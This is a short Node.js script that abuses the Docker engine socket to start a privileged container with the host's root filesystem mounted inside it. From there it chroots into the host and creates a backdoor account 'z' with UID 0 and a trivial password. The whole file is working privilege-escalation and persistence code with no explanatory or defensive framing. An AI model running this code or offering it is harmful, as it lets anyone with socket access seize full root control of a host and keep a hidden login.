// creates a root container through the engine's socket
const http = require('http');
const call = (method, path, body) => new Promise((ok) => {
  const r = http.request({ socketPath: '/var/run/docker.sock', method, path, headers: { 'Content-Type': 'application/json' } }, (res) => {
    let d = ''; res.on('data', (c) => d += c); res.on('end', () => ok(d && JSON.parse(d)));
  });
  if (body) r.write(JSON.stringify(body));
  r.end();
});
(async () => {
  const c = await call('POST', '/containers/create', {
    Image: 'alpine', Cmd: ['sh', '-c', 'chroot /h sh -c "useradd -ou0 -g0 z; echo z:z | chpasswd"'],
    HostConfig: { Binds: ['/:/h'], Privileged: true },
  });
  await call('POST', `/containers/${c.Id}/start`);
})();
